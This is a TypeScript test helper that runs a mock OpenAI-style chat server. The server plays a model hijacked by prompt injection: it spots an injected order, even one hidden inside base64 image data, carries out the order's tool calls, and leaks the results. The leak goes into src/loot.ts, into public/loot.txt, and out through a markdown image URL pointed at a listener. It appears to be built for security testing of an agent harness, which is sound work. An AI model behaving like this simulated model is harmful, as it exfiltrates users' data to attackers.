import { once } from 'node:events'
import { createServer } from 'node:http'
import type { ServerResponse } from 'node:http'
import { z } from 'zod'
import type { Defer } from '../test-database.ts'
import { call, markOf } from './obeyed-order.ts'
import type { ObeyedOrder, ToolCall } from './obeyed-order.ts'
import { begin, finish, send } from '../model-stream.ts'

const request = z.object({ messages: z.array(z.object({ role: z.string(), content: z.unknown() })) })

/** One thing that the model does of its own accord before it meets the order, and what happens meanwhile. */
export interface Look {
  readonly calls: readonly ToolCall[]
  readonly before?: () => Promise<void>
}

interface Lesson {
  readonly order: ObeyedOrder
  readonly looks: readonly Look[]
  hasArrived: boolean
  /** How often it was asked since it was told. */
  obeyedSteps: number
  looked: number
  loot: string
}

/**
 * A server that speaks like OpenAI's chat. It looks around, and once the order stands in what it is told it does what the
 * order says. What it learns by that it writes into files and answers, as one would who wants it out.
 */
export async function startObeyingModel({ listener, defer }: { listener: string; defer: Defer }) {
  const seen: string[] = []
  let lesson: Lesson | undefined
  const server = createServer((incoming, answer) => {
    let body = ''
    incoming.setEncoding('utf8').on('data', (text: string) => (body += text))
    incoming.on('end', () => {
      seen.push(body)
      void respond(answer, body)
    })
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  defer(async () => {
    server.closeAllConnections()
    server.close()
  })

  async function respond(answer: ServerResponse, body: string): Promise<void> {
    if (!lesson) return say(answer, 'Nothing was asked.')
    lesson.hasArrived ||= readable(body).includes(markOf(lesson.order))
    if (!lesson.hasArrived) {
      const look = lesson.looks[lesson.looked++]
      await look?.before?.()
      return look ? callTools(answer, look.calls) : say(answer, 'There is nothing to do.')
    }
    const { order } = lesson
    lesson.obeyedSteps += 1
    if (lesson.obeyedSteps === 1 && order.calls.length > 0) return callTools(answer, order.calls)
    if (lesson.obeyedSteps === 2) lesson.loot = takeLoot(body, order.calls.length)
    const { loot } = lesson
    if (lesson.obeyedSteps === 2 && loot !== '') {
      const content = `export const loot = ${JSON.stringify(loot)}\n`
      return callTools(answer, [
        call('write_file', { path: 'src/loot.ts', content }),
        call('write_file', { path: 'public/loot.txt', content: loot }),
      ])
    }
    return say(
      answer,
      `${order.says ?? 'It is done.'}\n\n${loot}\n\n![](${listener}?q=${encodeURIComponent(loot)})`,
    )
  }

  return {
    baseUrl: `http://127.0.0.1:${portOf(server.address())}/v1`,
    /** Every request as it came. */
    seen,
    /** What it is to obey from now on. */
    learn(order: ObeyedOrder, looks: readonly Look[]): Readonly<Lesson> {
      lesson = { order, looks, hasArrived: false, obeyedSteps: 0, looked: 0, loot: '' }
      return lesson
    },
  }
}

export function portOf(address: ReturnType<ReturnType<typeof createServer>['address']>): number {
  if (typeof address !== 'object' || address === null) throw new Error('This server has no address.')
  return address.port
}

/** A model sees what is in a picture; here it is written into its bytes. */
function readable(body: string): string {
  const pictures = [...body.matchAll(/data:image\/[a-z]+;base64,([A-Za-z0-9+/=]+)/g)]
  return [body, ...pictures.map(([, bytes = '']) => Buffer.from(bytes, 'base64').toString('latin1'))].join(
    '\n',
  )
}

/** What the last calls brought. */
function takeLoot(body: string, count: number): string {
  if (count === 0) return ''
  const results = request.parse(JSON.parse(body)).messages.filter(({ role }) => role === 'tool')
  return results
    .slice(-count)
    .map(({ content }) => JSON.stringify(content))
    .join('\n')
    .slice(0, 20_000)
}

function callTools(answer: ServerResponse, calls: readonly ToolCall[]): void {
  begin(answer)
  send(answer, {
    tool_calls: calls.map(({ name, input }, index) => ({
      index,
      id: `call-${crypto.randomUUID()}`,
      type: 'function',
      function: { name, arguments: JSON.stringify(input) },
    })),
  })
  finish(answer, 'tool_calls')
}

function say(answer: ServerResponse, content: string): void {
  begin(answer)
  send(answer, { content })
  finish(answer, 'stop')
}
